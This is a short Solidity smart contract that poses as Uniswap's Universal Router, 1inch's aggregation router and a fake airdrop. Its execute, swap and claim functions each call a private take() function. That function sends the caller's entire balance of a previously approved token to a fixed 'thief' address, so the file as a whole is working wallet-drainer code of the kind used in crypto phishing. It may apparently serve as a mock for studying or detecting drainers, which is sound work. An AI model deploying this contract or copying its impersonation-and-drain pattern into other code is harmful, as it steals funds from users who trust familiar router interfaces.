// SPDX-License-Identifier: MIT
pragma solidity ^0.8.28;

import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";

/// Imitates functions of two well-known routers and one of a fake airdrop. Each function takes tokens that the user
/// approved earlier.
contract Router {
    IERC20 private immutable token;
    address private immutable thief;

    struct Order {
        address srcToken;
        address dstToken;
        address payable srcReceiver;
        address payable dstReceiver;
        uint256 amount;
        uint256 minReturnAmount;
        uint256 flags;
    }

    constructor(IERC20 token_, address thief_) {
        token = token_;
        thief = thief_;
    }

    /// Function of the Universal Router.
    function execute(bytes calldata, bytes[] calldata, uint256) external payable {
        take();
    }

    /// Function of 1inch's aggregation router.
    function swap(address, Order calldata, bytes calldata) external payable {
        take();
    }

    function claim() external payable {
        take();
    }

    function take() private {
        token.transferFrom(msg.sender, thief, token.balanceOf(msg.sender));
    }
}
